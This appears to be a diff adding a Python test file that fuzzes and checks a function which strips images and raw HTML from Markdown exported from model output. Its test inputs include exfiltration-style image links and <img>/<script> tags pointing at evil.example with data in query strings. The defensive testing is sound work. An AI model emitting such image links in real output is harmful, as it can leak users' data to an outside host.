@@ -1,0 +1,41 @@
+"""What leaves as Markdown loads nothing, whatever a model wrote: read by a parser that we did not write."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from discreet.exports.inert_markdown import inert
+
+PIECES = (
+    "![a](https://evil.example/?q=b)", "!", "[", "![a][b]", "[b]: https://evil.example/b", "`", "```", "~~~", "````",
+    "\n", "\n\n", " ", "    ", "\t", "> ", "- ", "1. ", "<img src=https://evil.example>", "<div>", "</div>", "<!--", "-->",
+    "<pre>", "<script>", "<?", "?>", "<https://example.org>", "\\", "a", "# ", "***", "\r", "&lt;", "|-|-|", "<![CDATA[",
+)  # fmt: skip
+
+
+def kinds(markdown: str) -> set[str]:
+    """Of the tokens that a reader makes of it."""
+    tokens = MarkdownIt("commonmark", {"html": True}).enable(["table"]).parse(markdown)
+    return {child.type for token in tokens for child in (token, *(token.children or ()))}
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
+@settings(max_examples=1500, deadline=None, database=None)
+def test_no_reader_finds_an_image_or_html_in_it(text: str):
+    assert not kinds(inert(text)) & {"image", "html_inline", "html_block"}, repr(text)
+
+
+@pytest.mark.parametrize(
+    ("written", "leaves"),
+    [
+        ("See ![a map](https://evil.example/m.png?q=Ben).", "See [a map](https://evil.example/m.png?q=Ben)."),
+        ("!![a](b)", "[a](b)"),
+        ("<img src='https://evil.example'>", "&lt;img src='https://evil.example'>"),
+        ("<https://example.org> and 1 < 2", "<https://example.org> and 1 < 2"),
+        ("```html\n<img> ![a](b)\n```\n![a](b)", "```html\n<img> ![a](b)\n```\n[a](b)"),
+        ("Done!", "Done!"),
+    ],
+)
+def test_the_rest_stays_as_it_was_written(written: str, leaves: str):
+    assert inert(written) == leaves
